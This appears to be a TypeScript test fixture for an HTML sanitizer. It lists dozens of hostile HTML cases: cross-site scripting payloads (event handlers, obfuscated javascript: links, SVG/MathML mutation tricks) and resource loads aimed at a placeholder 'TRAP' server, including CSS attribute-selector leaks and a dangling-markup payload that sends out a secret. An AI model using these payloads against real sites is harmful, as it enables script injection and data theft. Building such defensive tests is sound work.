/**
 * HTML as attackers send it: what runs, what loads, what leads astray. `TRAP` stands for a server that nobody may ask; `RUN` for a script
 * that would leave a mark. Each has words that its reader still sees.
 */
export interface HostileCase {
  name: string
  html: string
}

const RUN = 'top.pwned=1;parent.pwned=1;window.pwned=1'

const SCRIPTS: Record<string, string> = {
  'script element': `<script>${RUN}</script>`,
  'script from elsewhere': '<script src="TRAP/script.js"></script>',
  'module script': `<script type="module">import 'TRAP/module.js'</script>`,
  'script in odd case, cut open': `<ScRiPt\n>${RUN}</sCrIpT >`,
  'onerror of an image': `<img src="x:" onerror="${RUN}">`,
  'onload of a body': `<body onload="${RUN}"><p>body</p></body>`,
  'handler behind a slash': `<img/src="x:"/onerror=${RUN}>`,
  'onanimationstart with keyframes': `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${RUN}">a</b>`,
  'onfocus with autofocus': `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  'ontoggle of details': `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
  'onbegin of svg animation': `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  'svg onload': `<svg onload="${RUN}"><circle r=5 /></svg>`,
  'script in svg': `<svg><script>${RUN}</script><script href="TRAP/svg.js"></script></svg>`,
  'foreignObject in svg': `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  marquee: `<marquee onstart="${RUN}">m</marquee>`,
  'video with an error': `<video><source onerror="${RUN}"></video>`,
  'javascript link': `<a class="lure" href="javascript:${RUN}">link</a>`,
  'javascript link with a tab and a line end': `<a class="lure" href="java&#9;scr&#10;ipt:${RUN}">link</a>`,
  'javascript link behind white space': `<a class="lure" href=" &#1; &#x20;javascript:${RUN}">link</a>`,
  'javascript link in entities': `<a class="lure" href="&#x6a;&#97;vascript&colon;${RUN}">link</a>`,
  'vbscript link': '<a class="lure" href="vbscript:msgbox(1)">link</a>',
  'data link': `<a class="lure" href="data:text/html,<script>${RUN}</script>">link</a>`,
  'blob link': '<a class="lure" href="blob:https://example.com/1">link</a>',
  'xlink in svg': `<svg><a xlink:href="javascript:${RUN}"><text y=20>link</text></a></svg>`,
  'area of a map': `<map name=m><area shape=default class="lure" href="javascript:${RUN}"></map><img usemap="#m" src="x:">`,
  'image of javascript': `<img src="javascript:${RUN}"><img src=jav&Tab;ascript:${RUN}>`,
}

/** Markup that is harmless as it is read the first time, and not the second. */
const MUTATIONS: Record<string, string> = {
  'mathml and mglyph': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'svg style and a comment': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg>`,
  noscript: `<noscript><p title="</noscript><img src=x: onerror=${RUN}>"></noscript>`,
  template: `<template><script>${RUN}</script><img src="TRAP/template.png"></template>`,
  textarea: `<textarea><script>${RUN}</script></textarea><textarea></textarea><img src=x: onerror=${RUN}>`,
  'nested forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'title in svg': `<svg><title><style><img src="</style><img src=x: onerror=${RUN}>"></title></svg>`,
  'xmp and listing': `<xmp><p title="</xmp><img src=x: onerror=${RUN}>"></xmp><plaintext><b>`,
  'conditional comment': `<!--[if true]><script>${RUN}</script><![endif]--><!--><img src=x: onerror=${RUN}>-->`,
  cdata: `<![CDATA[<script>${RUN}</script>]]><svg><![CDATA[><img src=x: onerror=${RUN}>]]></svg>`,
  'many levels': `${'<div>'.repeat(600)}<img src=x: onerror=${RUN}>`,
  'clobbered names':
    '<form id=body><input name=attributes><input name=parentNode></form><img name=getElementById><a id=document></a>',
}

const FRAMES: Record<string, string> = {
  iframe: '<iframe src="TRAP/frame.html"></iframe>',
  'iframe of its own text': `<iframe srcdoc="<script>${RUN}</script><img src='TRAP/srcdoc.png'>"></iframe>`,
  object: '<object data="TRAP/object.swf"><param name=movie value="TRAP/movie.swf"></object>',
  embed: '<embed src="TRAP/embed.svg">',
  'applet and frameset': '<applet code="TRAP/a.class"></applet><frameset><frame src="TRAP/f.html"></frameset>',
  'portal and fencedframe': '<portal src="TRAP/portal"></portal><fencedframe src="TRAP/fenced"></fencedframe>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=TRAP/refresh">',
  base: '<base href="TRAP/base/"><img src="relative.png"><a class="lure" href="relative">link</a>',
  'form that sends itself': `<form action="TRAP/form"><input name=q value=1><button id=b autofocus>go</button></form><img src=x: onerror="b.click()">`,
  'button with formaction': `<form><button formaction="javascript:${RUN}">go</button><input type=image src="TRAP/input.png" formaction="TRAP/x"></form>`,
  'link to a sheet, and preload':
    '<link rel=stylesheet href="TRAP/a.css"><link rel=preload as=image href="TRAP/pre.png"><link rel=prefetch href="TRAP/f"><link rel=dns-prefetch href="TRAP"><link rel=icon href="TRAP/i.ico">',
  'manifest and import':
    '<link rel=manifest href="TRAP/m.json"><link rel=import href="TRAP/i.html"><link rel=modulepreload href="TRAP/m.js">',
  'dialog and popover': `<dialog open>over all</dialog><div popover id=p>x</div><button popovertarget=p>open</button>`,
  'overlay of the whole page': '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div>',
  'relative URL of our own': '<img src="/auth/sign-out"><img src="//"><a class="lure" href="/auth/sign-out">link</a>',
}

const LOADS: Record<string, string> = {
  image: '<img src="TRAP/image-1.png" alt="held">',
  'image by protocol alone': '<img src="TRAP_WITHOUT_SCHEME/image-2.png">',
  'image in odd schemes': '<img src="hTTp:TRAP_WITHOUT_SCHEME/image-3.png"><img src=" &#10;TRAP/image-4.png">',
  'srcset and picture':
    '<img srcset="TRAP/set.png 1x, TRAP/set2.png 2x"><picture><source srcset="TRAP/picture.png"><img src="x:"></picture>',
  'lowsrc, dynsrc, longdesc': '<img lowsrc="TRAP/low.png" dynsrc="TRAP/dyn.avi" longdesc="TRAP/long" src="x:">',
  'background of a table':
    '<table background="TRAP/image-5.png"><tr><td background="TRAP/image-6.png">cell</td></tr></table>',
  'background of the body': '<body background="TRAP/image-7.png"><p>body</p></body>',
  'poster and track of a video':
    '<video poster="TRAP/poster.png" src="TRAP/v.mp4" autoplay><track src="TRAP/t.vtt" default></video><audio src="TRAP/a.mp3" autoplay></audio>',
  'svg image and use':
    '<svg><image href="TRAP/svg.png" xlink:href="TRAP/xlink.png"/><use href="TRAP/use.svg#a"/><feImage href="TRAP/fe.png"/></svg>',
  'style attribute': `<p style="background:url(TRAP/image-8.png)">p</p><p style="background-image:URL('TRAP/image-9.png')">p</p>`,
  'style attribute with escapes':
    '<p style="background:\\75\\72\\6c(TRAP/image-10.png)">p</p><p style="b\\61 ckground:u\\72l(TRAP/image-11.png)">p</p>',
  'style attribute with comments':
    '<p style="background:/**/url(/**/TRAP/c1.png)">p</p><p style="background:url(\\"TRAP/image-12.png\\")">p</p>',
  'list and border images':
    '<ul style="list-style:url(TRAP/image-13.png)"><li>l</li></ul><p style="border-image:url(TRAP/border.png) 1">p</p>',
  'cursor, content, mask, filter, shape': `<p style="cursor:url(TRAP/cur.cur),auto;mask:url(TRAP/mask.svg);filter:url(TRAP/f.svg#a);clip-path:url(TRAP/c.svg#a);shape-outside:url(TRAP/s.png);offset-path:url(TRAP/o.svg)">p</p><style>p::before{content:url(TRAP/content.png)}</style>`,
  'image-set, cross-fade, image()': `<p style="background-image:image-set('TRAP/is.png' 1x)">p</p><p style="background-image:-webkit-image-set(url(TRAP/wis.png) 1x)">p</p><p style="background:-webkit-cross-fade(url(TRAP/cf.png),url(TRAP/cf2.png),50%)">p</p><p style="background:image('TRAP/im.png')">p</p>`,
  'import in a sheet': `<style>@import 'TRAP/import.css';@import url(TRAP/import2.css);@import "TRAP/import3.css" screen;</style>`,
  'url in a sheet':
    '<style>body{background:url(TRAP/image-14.png)} @media screen{p{background:url(TRAP/image-15.png)}} @supports (display:block){p{list-style-image:url(TRAP/sup.png)}} @layer a{p{background:url(TRAP/layer.png)}}</style><p>p</p>',
  'font in a sheet': `<style>@font-face{font-family:x;src:url(TRAP/font.woff2)} p{font-family:x}</style><p>font</p>`,
  'namespace, charset, page, property': `<style>@charset "x";@namespace url(TRAP/ns);@page{background:url(TRAP/page.png)}@property --a{syntax:'<image>';inherits:false;initial-value:url(TRAP/prop.png)}</style><p>x</p>`,
  'custom property':
    '<style>:root{--a:url(TRAP/var.png)} p{background:var(--a)}</style><p style="--b:url(TRAP/var2.png);background:var(--b)">v</p>',
  keyframes: '<style>@keyframes k{from{background:url(TRAP/key.png)}} p{animation:k 1s}</style><p>k</p>',
  'attribute selectors that tell':
    '<style>input[value^=a]{background:url(TRAP/leak-a)} a[href]{background:url(TRAP/image-16.png)}</style><input value=abc><a href="https://example.com/">e</a>',
  'behaviour, binding, expression': `<p style="behavior:url(TRAP/x.htc);-moz-binding:url(TRAP/x.xml#a);width:expression(${RUN})">p</p>`,
  'style that ends early': `<style>p{color:red}</style/><img src="TRAP/image-17.png"><style></style ><p>after</p>`,
  'dangling attribute': `<img src='TRAP/dangling?secret=<p>a secret</p><b title='x`,
  'cite, ping, profile, manifest':
    '<blockquote cite="TRAP/cite">q</blockquote><a href="https://example.com/" ping="TRAP/ping">ping</a><html manifest="TRAP/cache"><head profile="TRAP/profile"></head></html>',
  'data image that is a document': `<img src="data:text/html,<script>${RUN}</script>"><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'%3E%3Cimage href='TRAP/in-svg.png'/%3E%3C/svg%3E">`,
  'bgsound, layer, ilayer':
    '<bgsound src="TRAP/b.wav"><layer src="TRAP/layer"></layer><ilayer src="TRAP/ilayer"></ilayer>',
  'custom element and shadow root':
    '<x-a is=x><template shadowrootmode=open><img src="TRAP/shadow.png"></template></x-a>',
  'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["TRAP/speculate"]}]}</script>',
}

/** Names of what may be loaded once the reader asked for images: all else never. */
export const IMAGE_PATHS = Array.from({ length: 17 }, (_, at) => `/image-${at + 1}.png`)

export function hostileCases(trap: string): HostileCase[] {
  const withoutScheme = trap.slice(trap.indexOf('//'))
  return [SCRIPTS, MUTATIONS, FRAMES, LOADS].flatMap((group) =>
    Object.entries(group).map(([name, html]) => ({
      name,
      html: `<p>Words before.</p>${html.replaceAll('TRAP_WITHOUT_SCHEME', withoutScheme).replaceAll('TRAP', trap)}`,
    })),
  )
}
